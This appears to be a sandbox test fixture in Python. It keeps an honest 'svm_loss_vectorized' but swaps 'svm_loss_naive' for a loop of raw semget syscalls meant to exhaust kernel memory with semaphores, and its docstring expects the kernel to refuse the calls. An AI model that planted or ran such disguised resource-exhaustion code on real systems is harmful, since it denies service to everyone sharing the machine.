"""Fill the machine's memory with semaphores, 2 MB in one call: no limit of a process counts them.

Fails: the kernel is told to refuse the call.
"""

import ctypes
import os

from . import honest

svm_loss_vectorized = honest.svm_loss_vectorized


libc = ctypes.CDLL(None, use_errno=True)
SEMGET = {"x86_64": 64, "aarch64": 190}


def svm_loss_naive(W, X, y, reg):
    for _ in range(32_000):
        if libc.syscall(SEMGET[os.uname().machine], 0, 32_000, 0o600) < 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
